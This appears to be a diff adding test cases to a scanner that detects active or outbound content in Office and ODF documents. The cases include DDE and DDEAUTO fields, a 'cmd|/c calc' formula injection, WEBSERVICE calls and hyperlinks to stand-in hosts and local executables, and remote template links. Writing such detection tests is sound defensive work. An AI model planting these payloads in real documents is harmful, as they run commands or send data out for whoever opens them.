@@ -57,6 +57,10 @@ def odf(element: str) -> bytes:
 
 
 REACHING_FIELDS = (
+    field('HYPERLINK "\\\\\\\\x.example\\\\share\\\\a.exe"'),
+    field("HYPERLINK file:///c:/x.exe"),
+    field('HYPERLINK \\t "_blank" "file:///c:/x.exe"'),
+    '<v:shape href="file:///c:/windows/x.exe"/>',
     field("ddeauto c:\\x"),
     field("DD", "EAU", "TO c:\\x"),
     field("&#68;DEAUTO c:\\x"),
@@ -73,6 +77,11 @@ REACHING_FIELDS = (
     '<w:fldSimple w:instr="D&#x44;E c:\\x"/>',
 )
 REACHING_FORMULAS = (
+    "IF(FALSE,'a&quot;'!A1,WEBSERVICE(&quot;http://x.example&quot;))",
+    "IF(FALSE,'a&quot;'!A1,cmd|'/c calc'!A1&amp;&quot;x&quot;)",
+    "'cmd'|'/c calc'!A1",
+    "HYPERLINK(&quot;\\\\x.example\\s\\a.exe&quot;)",
+    "HYPERLINK(&quot;file:///c:/x.exe&quot;,A1)",
     "_xlfn.WEBSERVICE(&quot;http://x.example&quot;)",
     "1+webservice (A1)",
     "RTD(&quot;a&quot;,,&quot;b&quot;)",
@@ -100,6 +109,14 @@ LINKS_THAT_START = (
 )
 HIDDEN = (b"MZ\x90\0", b"\x7fELF", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"{\\rtf1", b"#!/bin/sh")
 ACTING_ODF = (
+    '<t:named-expression t:name="E" t:expression="WEBSERVICE(&quot;http://x&quot;)"/>',
+    "<t:named-range t:cell-range-address=\"'file:///c:/x.ods'#$S.$A$1\"/>",
+    '<c:condition c:value="formula-is(WEBSERVICE(&quot;http://x&quot;))"/>',
+    '<s:map s:condition="is-true-formula(WEBSERVICE(&quot;http://x&quot;))"/>',
+    '<m:template x:href="http://x.example/t.ott"/>',
+    '<m:template x:href="//x.example/share/t.ott"/>',
+    '<m:template x:href="file://x.example/share/t.ott"/>',
+    '<t:a x:href="../other.ods"/>',
     "<t:dde-link/>",
     "<x:event-listener/>",
     '<t:c t:formula="of:=DDE(&quot;a&quot;;&quot;b&quot;)"/>',
